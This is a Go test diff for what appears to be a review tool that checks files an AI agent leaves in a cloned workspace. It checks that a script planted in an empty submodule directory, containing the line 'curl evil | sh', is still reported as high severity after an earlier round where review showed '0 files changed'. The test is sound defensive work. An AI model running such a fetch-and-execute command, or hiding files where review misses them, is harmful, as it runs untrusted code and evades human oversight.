@@ -181,3 +181,45 @@ func TestCopyBaselineLeavesOtherCopiesToTheGuest(t *testing.T) {
 		t.Error("the folder's clean filter ran on the host")
 	}
 }
+
+// TestGitlinkDirectoryFilesReported: a submodule the clone left as an
+// empty directory (a gitlink, no repository inside): files the agent puts
+// there are not captured by git add, so review names each (outside round
+// clonebase2/11: review said "0 files changed").
+func TestGitlinkDirectoryFilesReported(t *testing.T) {
+	gitEnv(t)
+	host := hostRepo(t)
+	head := strings.TrimSpace(runGit(t, host, "rev-parse", "HEAD"))
+	runGit(t, host, "update-index", "--add", "--cacheinfo", "160000,"+head+",vendor/lib")
+	runGit(t, host, "commit", "-q", "-m", "submodule")
+	dst := filepath.Join(t.TempDir(), "ws")
+	c, err := wsclone.Make(context.Background(), host, dst, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tg := &Target{Name: "gl", Mode: ModeClone, Repo: host, StateDir: t.TempDir(), Guest: localGuest{dst}, FetchURL: dst}
+	if err := CopyBaseline(context.Background(), tg, vm.WorkspaceCopy{Dir: dst, Repo: c.Repo, Changed: c.Changed}); err != nil {
+		t.Fatal(err)
+	}
+	os.MkdirAll(filepath.Join(dst, "vendor", "lib"), 0o755)
+	writeFile(t, filepath.Join(dst, "vendor", "lib", "run.sh"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+	res, err := Review(context.Background(), tg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range res.Reports {
+		if r.File.Path == "vendor/lib/run.sh" {
+			for _, f := range r.Findings {
+				found = found || f.Severity == High
+			}
+		}
+	}
+	if !found {
+		var ps []string
+		for _, r := range res.Reports {
+			ps = append(ps, r.File.Path)
+		}
+		t.Fatalf("vendor/lib/run.sh inside the submodule's directory is not reported high; reports: %v", ps)
+	}
+}
